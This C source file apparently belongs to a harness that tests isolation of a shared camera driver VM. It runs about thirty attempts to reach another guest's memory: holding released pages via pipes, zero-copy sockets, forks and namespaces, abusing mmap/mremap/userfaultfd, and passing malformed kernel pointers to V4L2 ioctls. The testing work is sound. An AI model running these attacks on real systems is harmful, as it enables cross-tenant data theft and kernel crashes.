/* Ways from the pages that a guest was given to pages of others: of another guest, or of the whole driver VM. */
#include "attempt.h"
#include "own_camera.h"
#include "table_hunts.h"

#include <linux/userfaultfd.h>
#include <netinet/in.h>
#include <sys/wait.h>

/* What the harness fills another guest's buffers with while this one waits. It comes on standard input, after the byte, so that
 * nothing of it is known before. */
static char secret[17];

static void await_secret(void) {
  say("kept");
  size_t have = 0;
  while (have < 16) {
    ssize_t got = read(STDIN_FILENO, secret + have, 16 - have);
    if (got <= 0) IMPOSSIBLE("no other guest's secret was told");
    have += (size_t)got;
  }
}

static size_t found_in(const char *bytes, size_t length) {
  size_t found = 0;
  for (size_t at = 0; at + 16 <= length; at += 16) found += memcmp(bytes + at, secret, 16) == 0;
  return found;
}

static void judge_kept(void) {
  size_t found = 0;
  for (unsigned i = 0; i < camera.count; i++) found += found_in(camera.buffer[i].bytes, camera.buffer[i].length);
  if (found > 0) SUCCEEDED("another guest's bytes are in the pages, %zu times", found);
  STOPPED("the pages are still this guest's own");
}

/* The last descriptor of the camera goes, but the mapping stays: whoever tells by the first thread's memory sees none. */
static void *keep_as_thread(void *unused) {
  (void)unused;
  pause_ms(300);
  MUST(close(camera.fd));
  pause_ms(300);
  await_secret();
  judge_kept();
  return NULL;
}

static void without_first_thread(void) {
  open_big();
  start(keep_as_thread, NULL);
  syscall(SYS_exit, 0);
}

static void in_nested_namespace(void) {
  open_big();
  enter_namespaces(CLONE_NEWPID);
  pid_t child = (pid_t)MUST(fork());
  if (child == 0) {
    MUST(close(camera.fd));
    pause_ms(600);
    await_secret();
    judge_kept();
  }
  MUST(close(camera.fd));
  unmap_all();
  waitpid(child, NULL, 0);
  _exit(0);
}

/* A mapping is handed from process to process faster than anyone can list them. */
static void hot_potato(void) {
  open_big();
  MUST(close(camera.fd));
  struct timespec begin, now;
  int ends[2];
  char byte;
  MUST(pipe2(ends, O_CLOEXEC));
  clock_gettime(CLOCK_MONOTONIC, &begin);
  for (unsigned hops = 0;; hops++) {
    clock_gettime(CLOCK_MONOTONIC, &now);
    if (now.tv_sec - begin.tv_sec >= 3) break;
    pid_t child = fork();
    if (child < 0) continue;
    if (child == 0) continue;
    /* The hand-over: the one before has nothing any more. */
    unmap_all();
    if (hops == 0) {
      /* Until the last has ended. */
      close(ends[1]);
      (void)!read(ends[0], &byte, 1);
    }
    _exit(0);
  }
  prctl(PR_SET_NAME, "potato");
  await_secret();
  judge_kept();
}

static void pipe_keeps(void) {
  open_big();
  int ends[2];
  MUST(pipe2(ends, O_CLOEXEC));
  MUST(fcntl(ends[1], F_SETPIPE_SZ, 1 << 20));
  size_t held = 0;
  for (unsigned i = 0; i < camera.count; i++) {
    struct iovec vector = {camera.buffer[i].bytes, 200 * PAGE};
    ssize_t spliced = vmsplice(ends[1], &vector, 1, SPLICE_F_NONBLOCK);
    if (spliced > 0) held += (size_t)spliced;
  }
  if (held == 0) STOPPED("vmsplice: %s", strerrorname_np(errno));
  unmap_all();
  MUST(close(camera.fd));
  pause_ms(300);
  await_secret();
  char *copy = calloc(1, held);
  size_t have = 0;
  while (have < held) {
    ssize_t got = read(ends[0], copy + have, held - have);
    if (got <= 0) break;
    have += (size_t)got;
  }
  size_t found = found_in(copy, have);
  if (found > 0) SUCCEEDED("another guest's bytes came out of the pipe, %zu times", found);
  STOPPED("the pipe held copies");
}

/* What is sent without a copy, to someone who does not read. */
static void socket_keeps(void) {
  open_big();
  int listener = (int)MUST(socket(AF_INET, SOCK_STREAM, 0)), sender = (int)MUST(socket(AF_INET, SOCK_STREAM, 0));
  struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
  socklen_t length = sizeof address;
  int small = 4096, large = 1 << 22, on = 1;
  MUST(setsockopt(listener, SOL_SOCKET, SO_RCVBUF, &small, sizeof small));
  MUST(setsockopt(sender, SOL_SOCKET, SO_SNDBUF, &large, sizeof large));
  MUST(bind(listener, (struct sockaddr *)&address, sizeof address));
  MUST(listen(listener, 1));
  MUST(getsockname(listener, (struct sockaddr *)&address, &length));
  MUST(connect(sender, (struct sockaddr *)&address, sizeof address));
  int receiver = (int)MUST(accept(listener, NULL, NULL));
  if (setsockopt(sender, SOL_SOCKET, SO_ZEROCOPY, &on, sizeof on) != 0) IMPOSSIBLE("SO_ZEROCOPY: %s", strerrorname_np(errno));
  size_t held = 0;
  errno = 0;
  for (unsigned i = 0; i < camera.count; i++) {
    ssize_t sent = send(sender, camera.buffer[i].bytes, 200 * PAGE, MSG_ZEROCOPY | MSG_DONTWAIT);
    if (sent > 0) held += (size_t)sent;
  }
  if (held == 0) STOPPED("send without a copy: %s", strerrorname_np(errno));
  unmap_all();
  MUST(close(camera.fd));
  pause_ms(300);
  await_secret();
  MUST(fcntl(receiver, F_SETFL, O_NONBLOCK));
  static char part[1 << 16];
  size_t found = 0;
  for (int idle = 0; idle < 100;) {
    ssize_t got = read(receiver, part, sizeof part);
    if (got <= 0) {
      idle++;
      pause_ms(2);
      continue;
    }
    idle = 0;
    found += found_in(part, (size_t)got);
  }
  if (found > 0) SUCCEEDED("another guest's bytes came over the socket, %zu times", found);
  STOPPED("what was sent were copies");
}

static void xdp_keeps(void) {
  int fd = socket(44 /* AF_XDP */, SOCK_RAW, 0);
  if (fd < 0) STOPPED("socket of AF_XDP: %s", strerrorname_np(errno));
  SUCCEEDED("a socket that keeps pages of its user's");
}

static void asynchronous_keeps(void) {
  unsigned long context = 0;
  long result = syscall(SYS_io_setup, 8, &context);
  judge_call("io_setup, whose transfers keep pages", result);
}

/* ---- From one mapping to more. */

static void judge_map(const char *what, void *address) {
  if (address == MAP_FAILED) STOPPED("%s: %s", what, strerrorname_np(errno));
  SUCCEEDED("%s at %p", what, address);
}

static void foreign_offsets(void) {
  struct video own = open_mapped(1);
  unsigned found = 0;
  for (uint64_t offset = 0; offset < 256 * PAGE; offset += PAGE) {
    if (offset == own.buffer[0].offset) continue;
    void *bytes = mmap(NULL, PAGE, PROT_READ, MAP_SHARED, own.fd, (off_t)offset);
    found += bytes != MAP_FAILED;
  }
  for (int bit = 12; bit < 63; bit++) {
    void *bytes = mmap(NULL, PAGE, PROT_READ, MAP_SHARED, own.fd, (off_t)(1ull << bit));
    found += bytes != MAP_FAILED && (1ull << bit) != own.buffer[0].offset;
  }
  if (found > 0) SUCCEEDED("%u offsets that the driver never gave", found);
  STOPPED("every other offset: %s", strerrorname_np(errno));
}

/* The offset that another descriptor of the camera was given. */
static void another_files_offset(void) {
  struct video owner = open_mapped(1);
  int other = open_video(0);
  judge_map("a buffer of another file", mmap(NULL, owner.buffer[0].length, PROT_READ, MAP_SHARED, other, owner.buffer[0].offset));
}

static void longer_than_the_buffer(void) {
  struct video own = open_mapped(1);
  unsigned longer = 0;
  static const size_t lengths[] = {1ul << 20, 1ul << 31, (1ul << 32) - PAGE, 1ul << 32, (1ul << 32) + PAGE, 1ul << 44, ~0ul - (1ul << 20)};
  for (size_t i = 0; i < COUNT(lengths); i++)
    if (own.buffer[0].length + lengths[i] > own.buffer[0].length) longer += mmap(NULL, own.buffer[0].length + lengths[i], PROT_READ, MAP_SHARED, own.fd, own.buffer[0].offset) != MAP_FAILED;
  if (longer > 0) SUCCEEDED("%u mappings longer than the buffer", longer);
  STOPPED("longer than the buffer, up to the whole address space: %s", strerrorname_np(errno));
}

static void widened(void) {
  struct video own = open_mapped(1);
  void *bytes = (void *)MUST(mmap(NULL, own.buffer[0].length, PROT_READ, MAP_SHARED, own.fd, own.buffer[0].offset));
  judge_call("mprotect of a read-only mapping", mprotect(bytes, PAGE, PROT_READ | PROT_WRITE));
}

static void grown(void) {
  struct video own = open_mapped(1);
  size_t length = (own.buffer[0].length + PAGE - 1) / PAGE * PAGE;
  judge_map("a mapping grown to a megabyte more", mremap(own.buffer[0].bytes, length, length + (1 << 20), MREMAP_MAYMOVE));
}

static void doubled(void) {
  struct video own = open_mapped(1);
  judge_map("a second mapping by an old size of 0", mremap(own.buffer[0].bytes, 0, 1 << 22, MREMAP_MAYMOVE));
}

static void other_pages(void) {
  struct video own = open_mapped(1);
  char before = *(char *)own.buffer[0].bytes;
  long result = RAW(remap_file_pages, own.buffer[0].bytes, PAGE, 0ul, 77ul, 0ul);
  (void)before;
  judge_call("remap_file_pages", result);
}

static void by_map_files(void) {
  struct video own = open_mapped(1);
  char path[96];
  unsigned long first = 0, end = 0, a, b;
  char line[256];
  FILE *maps = fopen("/proc/self/maps", "r");
  while (fgets(line, sizeof line, maps))
    if (sscanf(line, "%lx-%lx", &a, &b) == 2 && a <= (unsigned long)own.buffer[0].bytes && (unsigned long)own.buffer[0].bytes < b) first = a, end = b;
  snprintf(path, sizeof path, "/proc/self/map_files/%lx-%lx", first, end);
  int fd = open(path, O_RDWR);
  if (fd < 0) STOPPED("open of /proc/self/map_files: %s", strerrorname_np(errno));
  SUCCEEDED("the mapped file itself is descriptor %d", fd);
}

static void through_own_mem(void) {
  struct video own = open_mapped(1);
  void *bytes = (void *)MUST(mmap(NULL, own.buffer[0].length, PROT_READ, MAP_SHARED, own.fd, own.buffer[0].offset));
  int memory = (int)MUST(open("/proc/self/mem", O_RDWR));
  judge_call("/proc/self/mem over a read-only mapping", pwrite(memory, "x", 1, (off_t)bytes));
}

/* Faults of its own pages, in its own hands: it may decide about its mapping, not about what is behind it. */
static void faults_in_its_hands(void) {
  struct video own = open_mapped(2);
  memset(own.buffer[0].bytes, 0x22, own.buffer[0].length);
  memset(own.buffer[1].bytes, 0x33, own.buffer[1].length);
  int fd = (int)syscall(SYS_userfaultfd, 1 /* UFFD_USER_MODE_ONLY */);
  if (fd < 0) STOPPED("userfaultfd: %s", strerrorname_np(errno));
  struct uffdio_api api = {.api = UFFD_API};
  if (ioctl(fd, UFFDIO_API, &api) != 0) STOPPED("UFFDIO_API: %s", strerrorname_np(errno));
  size_t whole = (own.buffer[0].length + PAGE - 1) / PAGE * PAGE;
  struct uffdio_register wanted = {.range = {(uint64_t)own.buffer[0].bytes, whole}, .mode = UFFDIO_REGISTER_MODE_MISSING};
  if (ioctl(fd, UFFDIO_REGISTER, &wanted) != 0) STOPPED("UFFDIO_REGISTER: %s", strerrorname_np(errno));
  (void)madvise(own.buffer[0].bytes, whole, MADV_REMOVE);
  static char mine[PAGE];
  memset(mine, 0x44, sizeof mine);
  unsigned copied = 0;
  for (size_t at = 0; at + PAGE <= whole; at += PAGE) {
    struct uffdio_copy copy = {.dst = (uint64_t)own.buffer[0].bytes + at, .src = (uint64_t)mine, .len = PAGE};
    copied += ioctl(fd, UFFDIO_COPY, &copy) == 0;
  }
  size_t wrong = 0;
  for (size_t i = 0; i < own.buffer[1].length; i++) wrong += ((uint8_t *)own.buffer[1].bytes)[i] != 0x33;
  if (wrong > 0) SUCCEEDED("%zu bytes of another buffer changed", wrong);
  STOPPED("%u pages, all of its own buffer", copied);
}

static void punched(void) {
  struct video own = open_mapped(2);
  memset(own.buffer[1].bytes, 0x33, own.buffer[1].length);
  (void)madvise(own.buffer[0].bytes, own.buffer[0].length / PAGE * PAGE, MADV_REMOVE);
  size_t wrong = 0;
  for (size_t i = 0; i < own.buffer[1].length; i++) wrong += ((uint8_t *)own.buffer[1].bytes)[i] != 0x33;
  struct v4l2_capability capability;
  if (wrong > 0 || ioctl(own.fd, VIDIOC_QUERYCAP, &capability) != 0) SUCCEEDED("%zu bytes of another buffer changed", wrong);
  STOPPED("a hole in its own buffer, and nothing else");
}

/* ---- Nested pointers. */

static struct v4l2_ext_controls controls_at(void *list, unsigned count) {
  struct v4l2_ext_controls all = {.which = V4L2_CTRL_WHICH_CUR_VAL, .count = count};
  all.controls = list;
  return all;
}

static void nested_pointer(void *list, unsigned count) {
  int fd = open_video(0);
  struct v4l2_ext_controls all = controls_at(list, count);
  judge_call("VIDIOC_G_EXT_CTRLS", ioctl(fd, VIDIOC_G_EXT_CTRLS, &all));
}

static void nested_unmapped(void) { nested_pointer((void *)0x10000, 4); }
static void nested_kernel(void) { nested_pointer((void *)0xffffffff81000000ul, 4); }
static void nested_wrapping(void) { nested_pointer((void *)(~0ul - 64), 8); }
static void nested_non_canonical(void) { nested_pointer((void *)0x800000000000ul, 4); }
static void nested_too_many(void) { nested_pointer(calloc(4, sizeof(struct v4l2_ext_control)), 0x10000001u); }

static void nested_straddling(void) {
  char *two = (char *)MUST(mmap(NULL, 2 * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0));
  MUST(munmap(two + PAGE, PAGE));
  nested_pointer(two + PAGE - sizeof(struct v4l2_ext_control), 2);
}

/* The list lies over the argument that names it: what the driver's answer would write is what named it. */
static void nested_overlapping(void) {
  int fd = open_video(0);
  static struct {
    struct v4l2_ext_controls all;
    char room[256];
  } block;
  block.all = controls_at(&block, 1);
  errno = 0;
  int result = ioctl(fd, VIDIOC_G_EXT_CTRLS, &block.all);
  int error = errno;
  struct v4l2_capability capability;
  if (ioctl(fd, VIDIOC_QUERYCAP, &capability) != 0) SUCCEEDED("the driver is gone: %s", strerrorname_np(errno));
  STOPPED("VIDIOC_G_EXT_CTRLS gave %d (%s), and the driver goes on", result, result < 0 ? strerrorname_np(error) : "judged like any list");
}

static void nested_payload(void) {
  int fd = open_video(0);
  unsigned through = 0;
  static const uint32_t sizes[] = {0x7fffffff, 0x80000000, 0xfffffff0, 0xffffffff};
  for (size_t i = 0; i < COUNT(sizes); i++) {
    struct v4l2_ext_control one = {.id = V4L2_CID_USER_CLASS + 1, .size = sizes[i]};
    one.string = (char *)0xffffffff81000000ul;
    struct v4l2_ext_controls all = controls_at(&one, 1);
    through += ioctl(fd, VIDIOC_S_EXT_CTRLS, &all) == 0;
  }
  if (through > 0) SUCCEEDED("%u payloads of 2 GiB and more", through);
  STOPPED("payloads up to 2^32 at kernel addresses: %s", strerrorname_np(errno));
}

static const struct attempt attempts[] = {
    {"a mapping without a first thread", "to keep driver pages in a process whose first thread has ended, while another guest gets them", without_first_thread},
    {"a mapping in a PID namespace below", "to keep driver pages in a process of a PID namespace of the guest's own", in_nested_namespace},
    {"a mapping handed on", "to hand driver pages from process to process faster than they are listed", hot_potato},
    {"pages in a pipe", "to keep driver pages in a pipe (vmsplice) when they are another guest's", pipe_keeps},
    {"pages in a socket", "to keep driver pages in a socket's queue (MSG_ZEROCOPY)", socket_keeps},
    {"pages of a packet ring", "a socket that pins its user's pages (AF_XDP)", xdp_keeps},
    {"pages of a transfer", "asynchronous transfers that pin their pages (io_setup)", asynchronous_keeps},
    {"a thread's own table", "to see the memory's descriptor by sharing the table of one thread only", thread_with_own_table},
    {"a table without a first thread", "the same, of a process whose first thread has ended", table_without_first_thread},
    {"a table shared from a PID namespace below", "the same, from a process of a PID namespace below", table_in_nested_namespace},
    {"a sharer just in time", "to begin to share the table between the look for sharers and the mapping", sharer_just_in_time},
    {"the owner of the user namespace", "to take the memory's descriptor from a program that began in a user namespace of the guest's own", owner_of_namespace},
    {"an instruction that changes", "to change the `syscall` instruction under the stepped thread, so that the descriptor is not closed", changing_instruction},
    {"a full table", "to have the memory's descriptor in the window, by filling the table below it", full_table},
    {"foreign offsets", "mmap of offsets that the driver never gave", foreign_offsets},
    {"another file's offset", "mmap of a buffer that another open file was given", another_files_offset},
    {"longer than the buffer", "mmap of more than the buffer, up to lengths near 2^32 and 2^64", longer_than_the_buffer},
    {"mprotect of driver pages", "to write what was mapped for reading", widened},
    {"mremap to more", "to grow a mapping into the pages behind it", grown},
    {"mremap by nothing", "to double a mapping by an old size of 0, with a larger new one", doubled},
    {"remap_file_pages", "to put other pages of the file into the mapping", other_pages},
    {"/proc/self/map_files", "to open the file behind a mapping", by_map_files},
    {"/proc/self/mem", "to write a read-only mapping through /proc/self/mem", through_own_mem},
    {"userfaultfd", "to decide faults of driver pages", faults_in_its_hands},
    {"holes", "to punch holes into the driver VM's memory", punched},
    {"a nested pointer to nothing", "a list of controls where nothing is mapped", nested_unmapped},
    {"a nested pointer to the kernel", "a list of controls in the kernel's half", nested_kernel},
    {"a nested pointer that wraps around", "a list of controls that ends behind 2^64", nested_wrapping},
    {"a nested pointer that is none", "a list of controls at a non-canonical address", nested_non_canonical},
    {"a nested list without end", "a list of 2^28 controls, whose bytes are 2^32 and more", nested_too_many},
    {"a nested list across an end", "a list whose last control is not there", nested_straddling},
    {"a nested list over its own argument", "a list that lies over the structure that names it", nested_overlapping},
    {"payloads near 2^32", "payloads of 2^31 to 2^32 bytes, in the kernel's half", nested_payload},
};

int main(int argc, char **argv) {
  if (argc == 3 && strcmp(argv[1], "prey") == 0) return be_prey(atoi(argv[2]));
  snprintf(own_path, sizeof own_path, "%s", argv[0]);
  prepare = await_camera;
  return run_attempts(attempts, COUNT(attempts), argc, argv);
}
